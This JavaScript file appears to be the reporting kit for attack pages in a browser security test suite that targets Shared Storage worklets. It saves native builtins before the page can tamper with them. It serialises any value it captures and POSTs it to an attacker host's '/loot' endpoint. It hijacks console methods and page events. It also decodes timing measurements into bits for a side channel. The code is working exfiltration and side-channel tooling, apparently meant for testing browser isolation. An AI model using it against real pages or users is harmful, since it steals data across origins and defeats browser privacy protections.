// What attacking pages report with. It is loaded before whatever they patch, and has kept what it needs. `STAGE` is put before it by the server.
globalThis.kit = (() => {
  const { apply, ownKeys, getPrototypeOf, getOwnPropertyDescriptor } = Reflect;
  const nativeFetch = fetch;
  const NativePromise = Promise;
  const NativeWeakSet = WeakSet;
  const NativeUint8Array = Uint8Array;
  const NativeError = Error;
  const text = String;
  const bind =
    (f) =>
    (self, ...args) =>
      apply(f, self, args);
  const functionText = bind(Function.prototype.toString);
  const tagOf = bind(Object.prototype.toString);
  const has = bind(WeakSet.prototype.has);
  const add = bind(WeakSet.prototype.add);
  const toHex = (bytes) => {
    let hex = '';
    for (let index = 0; index < bytes.length; index++) hex += (bytes[index] < 16 ? '0' : '') + bytes[index].toString(16);
    return hex;
  };
  const isView = ArrayBuffer.isView;
  const outer = Object.getOwnPropertyDescriptor(Element.prototype, 'outerHTML').get;
  const NativeElement = Element;
  const NativeArrayBuffer = ArrayBuffer;

  function membersOf(value, depth, seen) {
    let out = tagOf(value);
    for (let object = value, level = 0; object && level < 3 && object !== Object.prototype; object = getPrototypeOf(object), level++)
      for (let keys = ownKeys(object), index = 0; index < keys.length; index++) {
        const key = keys[index];
        if (out.length > 20_000) return out;
        const { get, value: member } = getOwnPropertyDescriptor(object, key) ?? {};
        out += ` ${text(key)}=${attempt(() => describe(get ? apply(get, value, []) : member, depth - 1, seen))};`;
      }
    return out;
  }

  /** All that a value says, and what it has. */
  function describe(value, depth = 4, seen = new NativeWeakSet()) {
    if (typeof value === 'string') return value;
    if (typeof value !== 'object' && typeof value !== 'function') return text(value);
    if (value === null || has(seen, value) || depth < 0) return '…';
    add(seen, value);
    if (typeof value === 'function') return functionText(value) + membersOf(value, depth - 1, seen);
    if (value instanceof NativeArrayBuffer) return toHex(new NativeUint8Array(value));
    if (isView(value)) return toHex(new NativeUint8Array(value.buffer, value.byteOffset, value.byteLength));
    if (value instanceof NativeElement) return attempt(() => apply(outer, value, []));
    if (value instanceof NativeError) return `${text(value)} ${value.stack} ${membersOf(value, depth, seen)}`;
    return membersOf(value, depth, seen);
  }

  function attempt(action) {
    try {
      return action();
    } catch {
      return 'threw';
    }
  }

  const posts = [];
  let reports = 0;

  /** Reports what the attacker holds. */
  function got(...values) {
    reports++;
    let body = '';
    for (let index = 0; index < values.length; index++) body += `${attempt(() => describe(values[index]))}\n`;
    posts[posts.length] = nativeFetch(`${STAGE.attacker}/loot`, { method: 'POST', mode: 'no-cors', body });
  }

  /** Does each, whatever becomes of the others, and reports what came of it. */
  async function each(attempts) {
    for (let names = ownKeys(attempts), index = 0; index < names.length; index++) {
      const name = names[index];
      try {
        got(name, await attempts[name]());
      } catch (error) {
        got(name, error);
      }
    }
  }

  /** Reports whatever comes in anywhere that page code can listen. */
  function listenEverywhere(target = window) {
    const types = ['message', 'messageerror', 'error', 'unhandledrejection', 'rejectionhandled', 'securitypolicyviolation', 'storage'];
    for (const type of types)
      target.addEventListener(type, (event) => got(type, event.data, event.reason, event.message, event.newValue), true);
    for (const name of Object.getOwnPropertyNames(console))
      if (typeof console[name] === 'function') console[name] = (...values) => got('console', ...values);
    new ReportingObserver((list) => got('report', list), { buffered: true }).observe();
    new MutationObserver((records) => {
      for (const { target: node } of records) got('mutation', node);
    }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  }

  /** A frame in the page, once it is loaded. */
  const frame = (attributes, parent = document.body) =>
    new NativePromise((resolve) => {
      const element = document.createElement('iframe');
      for (const name of Object.keys(attributes)) element.setAttribute(name, attributes[name]);
      element.onload = () => resolve(element);
      parent.append(element);
    });

  /** Loads the attack's worklet, and runs its operation. */
  async function run(name = 'attack', options = {}) {
    await sharedStorage.worklet.addModule('/module.js').catch((error) => got('addModule', error));
    return sharedStorage.run(name, { keepAlive: true, ...options });
  }

  /** Two groups of these times, as a text of bits: those above the line that parts them best are 1. */
  function split(times) {
    const sorted = [...times].sort((a, b) => a - b);
    const sum = (list) => list.reduce((total, one) => total + one, 0);
    let best = { between: -1, line: 0 };
    for (let index = 1; index < sorted.length; index++) {
      const [low, high] = [sorted.slice(0, index), sorted.slice(index)];
      const between = low.length * high.length * (sum(high) / high.length - sum(low) / low.length) ** 2;
      if (between > best.between) best = { between, line: (sorted[index - 1] + sorted[index]) / 2 };
    }
    return times.map((time) => (time > best.line ? '1' : '0')).join('');
  }

  /** How long each of 24 calls takes, in milliseconds. */
  async function times(call) {
    const taken = [];
    for (let index = 0; index < 24; index++) {
      const begun = performance.now();
      try {
        await call(index);
      } catch {
        // How long a refusal takes is measured as well.
      }
      taken.push(performance.now() - begun);
    }
    return taken;
  }

  /** What has been reported, once it has arrived. */
  async function finish() {
    for (let index = 0; index < posts.length; index++) {
      try {
        await posts[index];
      } catch {
        // The page may have cut itself off.
      }
    }
    return reports;
  }

  return Object.freeze({ stage: STAGE, got, each, listenEverywhere, frame, run, split, times, finish, describe });
})();
